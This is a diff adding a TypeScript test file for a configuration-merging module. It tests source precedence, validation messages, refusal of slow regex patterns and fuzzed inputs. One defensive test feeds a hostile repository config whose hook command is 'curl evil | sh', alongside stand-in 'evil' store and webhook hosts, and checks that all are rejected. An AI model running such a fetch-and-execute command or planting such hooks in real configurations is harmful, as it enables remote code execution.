@@ -1,0 +1,114 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import * as fc from 'fast-check';
+import { limits } from '../../rules/limits.js';
+import { type ConfigInput, mergeConfig } from './merge.js';
+
+const merge = (input: Partial<ConfigInput>): ReturnType<typeof mergeConfig> => mergeConfig({ env: {}, ...input });
+const fromOf = (key: string, input: Partial<ConfigInput>): readonly string[] =>
+  merge(input).settings.find((one) => one.key === key)?.from ?? [];
+
+test('without any source everything is as built in', () => {
+  const { values, problems } = merge({});
+  assert.deepEqual(values, {
+    retention: { max_age_days: 7, failed_days: 30 },
+    limits: { summary_tokens: 500 },
+    pipeline: { id_pattern: null },
+    actor: null,
+    store: 'files',
+    off: [],
+  });
+  assert.deepEqual(problems, []);
+});
+
+test('later sources win: repository, user, environment', () => {
+  const repository = { retention: { max_age_days: 3 } };
+  const user = { retention: { max_age_days: 20 }, actor: 'ana' };
+  assert.equal(merge({ repository }).values.retention.max_age_days, 3);
+  assert.equal(merge({ repository, user }).values.retention.max_age_days, 20);
+  assert.deepEqual(fromOf('retention.max_age_days', { repository, user }), ['user']);
+  const env = { PAWL_ACTOR: 'bot', PAWL_OFF: 'ui, clean' };
+  assert.equal(merge({ user, env }).values.actor, 'bot');
+  assert.deepEqual(merge({ repository: { off: ['ui', 'mcp'] }, env }).values.off, ['ui', 'mcp', 'clean']);
+  assert.deepEqual(fromOf('off', { repository: { off: ['ui'] }, env }), ['repository', 'environment']);
+});
+
+test('a repository may only narrow, and cannot reach out', () => {
+  const repository = {
+    retention: { max_age_days: 8, failed_days: 30 },
+    limits: { summary_tokens: 499 },
+    store: 'postgres://evil',
+    actor: 'root',
+    hooks: { command: 'curl evil | sh' },
+    webhook_url: 'https://evil',
+  };
+  const { values, problems } = merge({ repository });
+  assert.equal(values.retention.max_age_days, 7);
+  assert.equal(values.limits.summary_tokens, 499);
+  assert.deepEqual([values.store, values.actor], ['files', null]);
+  assert.deepEqual(
+    problems.map(({ key, message }) => [key, /may not|may only/.test(message)]),
+    [
+      ['retention.max_age_days', true],
+      ['store', true],
+      ['actor', true],
+      ['hooks.command', true],
+      ['webhook_url', true],
+    ],
+  );
+});
+
+test('nobody raises the limit of summaries', () => {
+  const { values, problems } = merge({ user: { limits: { summary_tokens: 501 } } });
+  assert.equal(values.limits.summary_tokens, 500);
+  assert.match(problems[0]?.message ?? '', /whole number from 1 to 500/);
+});
+
+test('what is no setting is reported with what is near; values that do not fit are left out', () => {
+  const user = { retention: { max_age_day: 3, failed_days: '3' }, off: 'ui', $schema: 'x' };
+  const { values, problems } = merge({ user });
+  assert.deepEqual(values, merge({}).values);
+  assert.deepEqual(
+    problems.map(({ key, message }) => `${key} ${message}`),
+    [
+      'retention.max_age_day is no setting, did you mean retention.max_age_days?',
+      'retention.failed_days must be a whole number from 1 to 3650',
+      'off must be a list of names, e.g. ["clean"]',
+    ],
+  );
+  for (const nonsense of [null, [], 'x', 7]) assert.equal(merge({ user: nonsense }).problems.length, 1);
+});
+
+test('a pattern of ids may be wide, but not slow', () => {
+  const accepted = ['(?:PRD|ADR)-\\d{3}', '[A-Z]+-\\d+', 'PRD-\\d{3,4}', '[a-z+*?]{3}', 'x\\+\\?'];
+  const refused = [
+    '(a+)+',
+    '(a|a)*',
+    '(?:a?){20}',
+    'a*a*a*a*b',
+    '(.)\\1',
+    '(?=a)',
+    '(',
+    '',
+    'x'.repeat(201),
+    'a?a?a?a?',
+  ];
+  const patternOf = (id_pattern: string): string | null =>
+    merge({ repository: { pipeline: { id_pattern } } }).values.pipeline.id_pattern;
+  for (const pattern of accepted) assert.equal(patternOf(pattern), pattern);
+  for (const pattern of refused) assert.equal(patternOf(pattern), null, pattern);
+  const worst = 'a*[a]*\\w*';
+  assert.equal(patternOf(worst), worst);
+  const began = performance.now();
+  new RegExp(`^(?:${worst})$`, 'u').test(`${'a'.repeat(limits.maxNameChars - 1)}!`);
+  assert.ok(performance.now() - began < 5_000);
+});
+
+test('no input makes it throw', () => {
+  fc.assert(
+    fc.property(fc.jsonValue(), fc.jsonValue(), (repository, user) => {
+      const { settings } = merge({ repository, user });
+      assert.equal(settings.length, 7);
+    }),
+  );
+});
